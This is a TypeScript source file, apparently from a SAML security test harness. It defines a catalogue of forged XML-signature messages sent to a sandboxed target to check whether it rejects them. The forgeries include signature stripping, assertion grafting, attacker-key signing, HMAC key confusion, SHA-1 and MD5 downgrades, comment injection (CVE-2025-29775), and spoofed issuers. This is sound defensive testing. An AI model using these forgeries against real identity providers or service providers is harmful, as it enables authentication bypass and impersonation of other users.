import { SignedXml } from "xml-crypto";
import { algorithm } from "../../../sandbox/saml/constants";
import type { SigningOptions } from "../../sandbox/saml/support/signer";
import type { Attack } from "../attack";
import { afterIssuer, base64, forged, piecesOf, replaced, signed, signedTwice, unsigned } from "../messages";
import type { Target } from "../target";

/** The victim's message, signed by the attacker. */
const byAttacker = (target: Target, options: SigningOptions = {}): string =>
  signed(target, target.victim.parts, "attacker", options);

const certificateIn = /(<(?:ds:)?X509Certificate>)[^<]*/;

/** Signed with the certificate, which is public, as the secret of an HMAC (Duo Labs and others: key confusion). */
function withHmac(target: Target): string {
  const secret = `-----BEGIN CERTIFICATE-----\n${target.keys.trusted.certificate}\n-----END CERTIFICATE-----`;
  const signature = new SignedXml({
    privateKey: secret,
    signatureAlgorithm: "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
    canonicalizationAlgorithm: algorithm.exclusiveCanonicalization,
  });
  signature.enableHMAC();
  signature.addReference({
    xpath: '//*[@ID="_assertion"]',
    transforms: [algorithm.envelopedSignature, algorithm.exclusiveCanonicalization],
    digestAlgorithm: algorithm.sha256,
  });
  const reference = '//*[@ID="_assertion"]/*[local-name()="Issuer"]';
  signature.computeSignature(unsigned(target, target.victim.parts), {
    location: { reference, action: "after" },
    prefix: "ds",
  });
  return signature.getSignedXml();
}

/** The user's signed assertion, with the victim in it. */
const grafted = (target: Target): string =>
  replaced(
    signed(target),
    piecesOf(signed(target)).assertion,
    afterIssuer(forged(target, "_assertion"), piecesOf(signed(target)).signature),
  );

const signature = (name: string, send: Attack["send"], more: Partial<Attack> = {}): Attack => ({
  name,
  guards: ["signature"],
  send,
  admits: "victim",
  ...more,
});

/** The user's own message, which only lacks something of a good signature. */
const own = (name: string, send: Attack["send"], more: Partial<Attack> = {}): Attack =>
  signature(name, send, { admits: "self", ...more });

const sha1: SigningOptions = { signatureAlgorithm: algorithm.rsaSha1, digestAlgorithm: algorithm.sha1 };

const digest = /<ds:DigestValue>[^<]*<\/ds:DigestValue>/;
const value = /<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/;
const keyInfo = /<ds:KeyInfo>.*?<\/ds:KeyInfo>/s;

const contents: readonly [what: string, from: string | RegExp, to: string][] = [
  ["two DigestValues", digest, "$&$&"],
  ["no DigestValue", digest, ""],
  ["a comment in DigestValue (CVE-2025-29775)", "<ds:DigestValue>", "$&<!--x-->"],
  ["no SignatureValue", value, ""],
  ["two KeyInfos", keyInfo, "$&$&"],
  ["an Object", "</ds:Signature>", "<ds:Object>x</ds:Object>$&"],
];

export const signatureAttacks: readonly Attack[] = [
  signature("a stripped signature", (target) => base64(unsigned(target, target.victim.parts))),
  signature("an identity changed after signing", (target) => base64(grafted(target))),
  signature("a victim's assertion unsigned, in a Response that the identity provider signed", (target) =>
    base64(target.keys.sign(unsigned(target, target.victim.parts), "trusted", { id: "_response" })),
  ),
  signature("another key, its certificate in KeyInfo", (target) => base64(byAttacker(target)), { kind: "unknownKey" }),
  signature(
    "another key, with the trusted certificate in KeyInfo",
    (target) => base64(replaced(byAttacker(target), certificateIn, `$1${target.keys.trusted.certificate}`)),
    {
      kind: "unknownKey",
      // KeyInfo is not read: that of somebody else does no harm either.
      twin: (target) => base64(replaced(signed(target), certificateIn, `$1${target.keys.attacker.certificate}`)),
    },
  ),
  signature("another key, without a KeyInfo", (target) => base64(replaced(byAttacker(target), keyInfo, "")), {
    kind: "unknownKey",
    twin: (target) => base64(replaced(signed(target), keyInfo, "")),
  }),
  signature("another key, with SHA-1", (target) => base64(byAttacker(target, sha1)), { kind: "unknownKey" }),
  own(
    "SHA-1 written over a SHA-256 signature",
    (target) => base64(replaced(signed(target), algorithm.rsaSha256, algorithm.rsaSha1)),
    { kind: "unknownKey", twin: (target) => base64(signed(target, {}, "trusted", sha1)) },
  ),
  own("a SHA-1 digest written over a SHA-256 one", (target) =>
    base64(replaced(signed(target), algorithm.sha256, algorithm.sha1)),
  ),
  signature("an HMAC with the certificate as its secret", (target) => base64(withHmac(target))),
  own("RSA-MD5", (target) =>
    base64(replaced(signed(target), algorithm.rsaSha256, "http://www.w3.org/2001/04/xmldsig-more#rsa-md5")),
  ),
  own("canonicalization with comments", (target) => {
    const transforms = [algorithm.envelopedSignature, `${algorithm.exclusiveCanonicalization}WithComments`];
    return base64(signed(target, {}, "trusted", { transforms }));
  }),
  own("an XPath transform", (target) =>
    base64(
      replaced(
        signed(target),
        '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
        '$&<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::Attribute)</ds:XPath></ds:Transform>',
      ),
    ),
  ),
  own("a blank put in after signing", (target) => base64(replaced(signed(target), "<Subject>", "<Subject> "))),
  own("a reference to the whole document", (target) => base64(replaced(signed(target), 'URI="#_assertion"', 'URI=""'))),
  own("a reference to the Response", (target) => base64(signed(target, {}, "trusted", { alsoReference: "_response" }))),
  own("an ID that another element has too", (target) =>
    base64(replaced(signed(target), "</samlp:Response>", '<x xmlns="urn:x" Id="_assertion"/></samlp:Response>')),
  ),
  ...contents.map(([what, from, to]) =>
    own(`${what} in the signature`, (target) => base64(replaced(signed(target), from, to))),
  ),
  own(
    "a signature of the Response by another key",
    (target) => base64(target.keys.sign(signed(target), "attacker", { id: "_response" })),
    { kind: "unknownKey", twin: (target) => base64(signedTwice(target)) },
  ),
  own(
    "a signed Response that was changed around its assertion",
    (target) => base64(replaced(signedTwice(target), "<samlp:Status>", "<samlp:Status> ")),
    { twin: (target) => base64(signedTwice(target)) },
  ),
  own("a second signature, in an extension", (target) =>
    base64(
      replaced(
        signed(target),
        "<samlp:Status>",
        `<samlp:Extensions>${piecesOf(signed(target)).signature}</samlp:Extensions><samlp:Status>`,
      ),
    ),
  ),
  {
    name: "an issuer that the Response does not have",
    guards: ["issuer"],
    kind: "unknownIssuer",
    send: (target) => base64(signed(target, { responseIssuer: "https://evil.example/" })),
  },
  {
    name: "an issuer that nobody has heard of",
    guards: ({ behind }) => ["issuer", ...(behind?.["issuer"] ?? [])],
    kind: "unknownIssuer",
    of: ({ knowsIssuer }) => knowsIssuer,
    send: (target) => base64(signed(target, { issuer: "https://evil.example/" })),
  },
  {
    name: "an issuer that begins with the known one",
    guards: ({ behind }) => ["issuer", ...(behind?.["issuer"] ?? [])],
    kind: "unknownIssuer",
    of: ({ knowsIssuer }) => knowsIssuer,
    send: (target) => base64(signed(target, { issuer: `${target.parts().issuer}x` })),
  },
  {
    name: "an unknown issuer, by the attacker's own key",
    guards: ({ knowsIssuer }) => (knowsIssuer ? ["issuer", "signature"] : ["signature"]),
    kind: "unknownIssuer",
    // With both off nothing is left that says who speaks.
    of: ({ knowsIssuer, behind }) => knowsIssuer && behind?.["issuer"] === undefined,
    send: (target) => base64(signed(target, { ...target.victim.parts, issuer: "https://evil.example/" }, "attacker")),
    admits: "victim",
  },
];

/** Signed by the right key, as older identity providers do. */
export const sha1Message = (target: Target): string => base64(signed(target, {}, "trusted", sha1));
